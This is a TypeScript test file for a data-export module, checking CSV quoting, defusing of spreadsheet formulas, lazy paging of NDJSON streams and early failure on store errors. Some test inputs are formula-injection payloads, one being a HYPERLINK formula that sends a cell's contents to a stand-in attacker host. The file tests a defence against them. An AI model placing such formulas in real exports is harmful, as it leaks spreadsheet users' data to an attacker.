import { describe, expect, test } from 'vitest'
import { DocentError } from '../../shared/errors.ts'
import { csvCell, exportResponse } from './export.ts'

describe('exports', () => {
  test('CSV cells are quoted when they must be, and formulas are defused', () => {
    expect(csvCell('plain')).toBe('plain')
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"')
    expect(csvCell('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`)
    expect(csvCell('-2+3')).toBe("'-2+3")
    expect(csvCell(-2)).toBe('-2')
    expect(csvCell(null)).toBe('')
    expect(
      csvCell([
        { title: 'Flags', url: 'https://d/f' },
        { title: 'SDK', url: 'https://d/s' },
      ]),
    ).toBe('Flags https://d/f; SDK https://d/s')
    // A list flattened to text is text: a docs page titled as a formula is defused in the sources column too.
    expect(csvCell([{ title: '=HYPERLINK("https://evil.example/?leak="&C2,"Open")&T("', url: 'https://d/x")' }])).toBe(
      `"'=HYPERLINK(""https://evil.example/?leak=""&C2,""Open"")&T("" https://d/x"")"`,
    )
  })

  test('pages are read only as the client reads the stream', async () => {
    const reads: Array<string | undefined> = []
    const response = await exportResponse('ndjson', {
      name: 'rows',
      columns: ['n'],
      page: async (cursor) => {
        reads.push(cursor)
        const n = Number(cursor ?? 0)
        return { items: [n, n + 1], nextCursor: n < 1000 ? String(n + 2) : null }
      },
      row: (n) => ({ n }),
    })
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    const reader = response.body!.getReader()
    const first = new TextDecoder().decode((await reader.read()).value)
    expect(first).toBe('{"n":0}\n{"n":1}\n')
    await reader.cancel()
    // One page asked for, and perhaps the next one the stream buffers ahead: never the 500 pages of the whole list.
    expect(reads.length).toBeLessThanOrEqual(2)
  })

  test('CSV has a header line and every row; an empty list is the header alone', async () => {
    const rows = await exportResponse('csv', {
      name: 'rows',
      columns: ['a', 'b'],
      page: async (cursor) =>
        cursor ? { items: [{ a: 3, b: 'x,y' }], nextCursor: null } : { items: [{ a: 1, b: 'z' }], nextCursor: 'p2' },
      row: (item) => item,
    })
    expect(rows.headers.get('content-disposition')).toBe('attachment; filename="rows.csv"')
    expect(await rows.text()).toBe('a,b\r\n1,z\r\n3,"x,y"\r\n')
    const empty = await exportResponse('csv', {
      name: 'none',
      columns: ['a'],
      page: async () => ({ items: [], nextCursor: null }),
      row: (x) => x,
    })
    expect(await empty.text()).toBe('a\r\n')
  })

  test('a store that refuses the first page fails the request itself, before a 200 and a cut-off file', async () => {
    const refused = new DocentError('invalid_request', 'dateFrom: must be 0001-01-01 or later')
    for (const format of ['csv', 'ndjson'] as const) {
      const response = (async () =>
        exportResponse<{ a: number }>(format, {
          name: 'rows',
          columns: ['a'],
          page: async () => {
            throw refused
          },
          row: (x) => x,
        }))()
      await expect(response).rejects.toBe(refused)
    }
  })
})
